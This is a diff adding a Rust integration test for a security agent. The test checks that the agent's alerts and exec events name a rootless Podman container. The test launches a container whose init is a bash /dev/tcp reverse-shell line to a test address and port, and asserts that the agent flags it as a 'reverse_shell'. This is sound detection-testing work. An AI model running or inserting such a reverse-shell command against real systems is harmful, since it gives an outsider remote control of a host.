@@ -22,6 +22,11 @@
 //!   events as Docker's own `config.v2.json` gives it (id, name, image); so is an admin's
 //!   `docker exec`, which raises nothing.
 //!
+//! - A rootless Podman container (a throwaway user with subordinate ids, its own store under
+//!   its home) is named in the alert and the exec events (id, name, image): on these
+//!   hybrid-cgroup machines it has no cgroup of its own, and the agent finds it through its
+//!   `conmon`.
+//!
 //! Needs root, podman and runc, and docker.io for the Docker test (`scripts/setup.sh`); skips
 //! loudly otherwise.
 
@@ -549,5 +554,46 @@ fn a_docker_container_is_named_as_dockers_own_config_gives_it() {
             .any(|a| a["detail"].to_string().contains("admin-was-here")
                 || a["pid"] == admin["pid"]),
         "the admin's exec raised an alert: {alerts:?}"
+    );
+}
+
+#[test]
+fn a_rootless_podman_container_is_named() {
+    let test = "a_rootless_podman_container_is_named";
+    if !require_root(test) || !available(test) {
+        return;
+    }
+    let _serial = serial();
+    let net = TestNet::new("u");
+    let _listener = holding_listener(&net, 4450);
+    if common::container::container_root().is_none() {
+        return;
+    }
+    let user = common::podman::RootlessUser::create();
+    user.import_image();
+    let agent = Agent::start_with("", "");
+    let name = format!("snt-rootless-{}", std::process::id());
+    // The host's network (no slirp4netns needed): the init is a reverse shell to RU4.
+    let shell = format!("exec sleep 300 <>/dev/tcp/{RU4}/4450 >&0");
+    let id = user.run(&name, &["--network=host"], &["bash", "-c", &shell]);
+    let alert = agent.wait_for("alert", "the rootless container's reverse shell", |a| {
+        a["anomaly"] == "reverse_shell" && a["container"]["id"] == id.as_str()
+    });
+    names_the_container(&alert, &id, &name);
+    let exec = agent.wait_for("exec", "the container's init", |e| {
+        e["filename"].as_str().unwrap_or("").ends_with("/bash")
+            && e["argv"]
+                .to_string()
+                .contains(&format!("/dev/tcp/{RU4}/4450"))
+    });
+    names_the_container(&exec, &id, &name);
+    // The store the name came from is the user's own (whichever driver Podman chose).
+    assert!(
+        ["overlay-containers", "vfs-containers"].iter().any(|d| user
+            .storage()
+            .join(d)
+            .join(&id)
+            .is_dir()),
+        "{id} is not in the user's store"
     );
 }
